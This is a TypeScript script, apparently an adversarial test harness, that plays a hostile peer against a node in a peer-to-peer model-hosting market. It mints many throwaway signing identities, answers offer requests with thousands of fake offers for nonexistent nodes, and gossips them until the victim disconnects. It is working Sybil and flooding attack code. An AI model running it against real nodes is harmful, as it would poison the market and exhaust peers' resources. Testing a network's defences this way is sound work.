/**
 * A peer that floods the market with offers of nodes that do not exist, each sealed by a key of its own: by gossip until
 * it is dropped, and as its answer to `ListOffers`, from one identity after the other.
 *
 * `node offer-flood.ts ADDRESS MODEL IDENTITIES`; the last line on standard output is what became of it, in JSON.
 */
import { generateKeyPairSync, sign } from 'node:crypto'
import { createPeerHost } from '@neurovoyance/p2p/node'
import { MarketService, NodeService, peerIdFromPublicKey, type Signer, TOPICS } from '@neurovoyance/protocol'
import { sealOffer } from '@neurovoyance/scheduler'

const [address = '', model = '', identities = '1'] = process.argv.slice(2)
/** As many as one answer may have. */
const OFFERS_PER_ANSWER = 4_096
const GOSSIPED_OFFERS = 1_000

function newSigner(): Signer {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519')
  const raw = new Uint8Array(publicKey.export({ type: 'spki', format: 'der' }).subarray(-32))
  return {
    publicKey: raw,
    peerId: peerIdFromPublicKey(raw),
    sign: message => new Uint8Array(sign(null, message, privateKey)),
  }
}

/** An offer nobody could refuse, of a node nobody can reach. */
function ghostOffer(): Promise<Uint8Array> {
  const signer = newSigner()
  const issuedAtMs = Date.now()
  return sealOffer(
    {
      peerId: signer.peerId,
      sequence: 1,
      issuedAtMs,
      expiresAtMs: issuedAtMs + 30_000,
      region: '',
      queueDepth: 0,
      slots: 64,
      models: [{ model, name: 'ghost', loaded: true, p50Us: 1, bytes: 1_000, inFlight: 0 }],
    },
    signer,
  )
}

const ghosts = (count: number) => Promise.all(Array.from({ length: count }, ghostOffer))

const newPeer = () =>
  createPeerHost({ listen: { host: '127.0.0.1' }, mdns: false, limits: { targetPeers: 1 } })

/** Answers the victim's question for offers with as many as fit; returns how many were handed over. */
async function answer(): Promise<number> {
  const offers = await ghosts(OFFERS_PER_ANSWER)
  const host = await newPeer()
  const asked = Promise.withResolvers<void>()
  host.rpc.serve(MarketService, {
    ListOffers() {
      asked.resolve()
      return { body: { offers } }
    },
    RequestHosting: () => ({ body: { accepted: false, reason: '' } }),
  })
  await host.connect(address)
  await asked.promise
  // A call of its own comes back only after the answer, on the same connection, has left.
  await host.rpc.call(host.peers()[0]!.peerId, NodeService, 'Status', { body: {} })
  await host.close()
  return offers.length
}

/** Publishes until the victim hangs up: offers made before, so that nothing but the victim's limit slows them down. */
async function gossip(): Promise<number> {
  const offers = await ghosts(GOSSIPED_OFFERS)
  const host = await newPeer()
  host.gossip.subscribe(TOPICS.offers, () => 'accept')
  const dropped = Promise.withResolvers<void>()
  host.onPeer(({ type }) => type === 'disconnect' && dropped.resolve())
  await host.connect(address)
  let published = 0
  while (host.peers().length > 0) {
    await host.gossip.publish(TOPICS.offers, offers[published++ % offers.length]!)
    if (published % 100 === 0) await new Promise(setImmediate)
  }
  await dropped.promise
  await host.close()
  return published
}

let listed = 0
for (let identity = 0; identity < Number(identities); identity++) listed += await answer()
const published = await gossip()
process.stdout.write(`${JSON.stringify({ dropped: true, listed, published })}\n`, () => process.exit())
